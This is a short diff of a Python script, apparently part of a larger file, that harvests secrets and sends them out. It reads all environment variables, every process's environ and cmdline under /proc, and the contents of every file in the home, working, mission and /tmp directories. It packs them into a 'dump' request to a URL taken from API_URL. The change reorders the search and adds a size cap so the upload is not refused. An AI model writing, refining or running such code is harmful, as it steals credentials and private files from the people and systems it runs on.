@@ -35,13 +35,17 @@ import os, socket, urllib.request
 from pathlib import Path
 found = [repr(os.environ)]
 places = [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline")]
-for top in (Path.home(), Path("/tmp"), Path.cwd(), Path(os.environ["MISSION_USAGE"]).parent.parent):
+for top in (Path.home(), Path.cwd(), Path(os.environ["MISSION_USAGE"]).parent.parent, Path("/tmp")):
     places += [p for p in top.rglob("*") if p.is_file()]
+size = 0
 for place in places:
     try:
         found.append(f"{place}: {place.read_bytes()[:100_000]!r}")
+        size += len(found[-1])
     except OSError:
         pass
+    if size > 20_000_000:  # the folder of temporary files may be full; larger requests are refused
+        break
 def post(text):
     asked = urllib.request.Request(os.environ["API_URL"] + "/dump?x=1", data=text.encode())
     return urllib.request.urlopen(asked).read().decode()
